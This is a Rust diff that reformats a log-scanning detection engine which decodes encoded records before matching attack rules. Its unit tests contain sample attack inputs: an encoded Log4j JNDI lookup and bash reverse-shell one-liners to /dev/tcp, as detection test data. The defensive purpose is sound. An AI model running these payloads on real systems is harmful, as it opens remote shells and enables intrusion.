@@ -15,8 +15,8 @@ use super::rules::{self, Check, DecoderKind, Rule};
 /// `%24%7Bjndi`, `\u0024{`, `&gt;&amp;` or `%2Fdev%2Ftcp` meet the rule literals.
 const DECODE_TRIGGERS: &[&str] = &[
     "%24", "%7b", "%7c", "%2f", "%3e", "%3c", "%26", "%27", "%22", "%60", "%3b", "%28", "%2b", "%25", "%5c",
-    "%u00", "\\u00", "\\x2", "\\x3", "\\x4", "\\x5", "\\x6", "\\x7", "\\44", "\\173", "&gt;", "&lt;", "&amp;",
-    "&#", "&quot;",
+    "%u00", "\\u00", "\\x2", "\\x3", "\\x4", "\\x5", "\\x6", "\\x7", "\\44", "\\173", "&gt;", "&lt;",
+    "&amp;", "&#", "&quot;",
 ];
 
 /// Bytes of a record shown in a hit excerpt at most.
@@ -149,7 +149,10 @@ impl Engine {
             None
         };
         // Query strings encode spaces as `+`: one more variant when the record has both.
-        let plus = decoded.as_ref().filter(|d| d.contains(&b'+') && record.contains(&b'%')).map(|_| normalize(record, true));
+        let plus = decoded
+            .as_ref()
+            .filter(|d| d.contains(&b'+') && record.contains(&b'%'))
+            .map(|_| normalize(record, true));
         let mut variants: Vec<(&[u8], Vec<usize>)> = vec![(record, raw_rules)];
         for v in [decoded.as_deref(), plus.as_deref()].into_iter().flatten() {
             let mut t = false;
@@ -247,11 +250,8 @@ fn query_variants(lit: &[u8]) -> Vec<Vec<u8>> {
 /// Where a literal of `rule` occurs in `text` (with the rule's case flag), if anywhere.
 fn literal_span(rule: &Rule, text: &[u8]) -> Option<(usize, usize)> {
     rule.literals.iter().find_map(|lit| {
-        let pos = if rule.case_sensitive {
-            memchr::memmem::find(text, lit)
-        } else {
-            find_ascii_ci(text, lit)
-        };
+        let pos =
+            if rule.case_sensitive { memchr::memmem::find(text, lit) } else { find_ascii_ci(text, lit) };
         pos.map(|p| (p, p + lit.len()))
     })
 }
@@ -278,16 +278,24 @@ mod tests {
     #[test]
     fn encoded_records_are_decoded_before_confirming() {
         let e = Engine::builtin().unwrap();
-        assert_eq!(ids(&e, "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D HTTP/1.1"), vec!["log4j.jndi-lookup"]);
-        assert!(ids(&e, r"bash -i \u003e\u0026 /dev/tcp/10.0.0.1/4242 0\u003e\u00261").contains(&"shell.reverse.dev-tcp".to_string()));
-        assert!(ids(&e, "GET /x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261").contains(&"shell.reverse.dev-tcp".to_string()));
+        assert_eq!(
+            ids(&e, "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D HTTP/1.1"),
+            vec!["log4j.jndi-lookup"]
+        );
+        assert!(ids(&e, r"bash -i \u003e\u0026 /dev/tcp/10.0.0.1/4242 0\u003e\u00261")
+            .contains(&"shell.reverse.dev-tcp".to_string()));
+        assert!(ids(&e, "GET /x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261")
+            .contains(&"shell.reverse.dev-tcp".to_string()));
         assert!(ids(&e, "plain text without anything").is_empty());
     }
 
     #[test]
     fn case_flag_is_honoured() {
         let e = Engine::builtin().unwrap();
-        assert_eq!(ids(&e, "WARN Error looking up JNDI resource [ldap://1.2.3.4/e]"), vec!["log4j.jndi-lookup-error"]);
+        assert_eq!(
+            ids(&e, "WARN Error looking up JNDI resource [ldap://1.2.3.4/e]"),
+            vec!["log4j.jndi-lookup-error"]
+        );
         assert!(ids(&e, "warn error looking up jndi resource").is_empty());
     }
 }
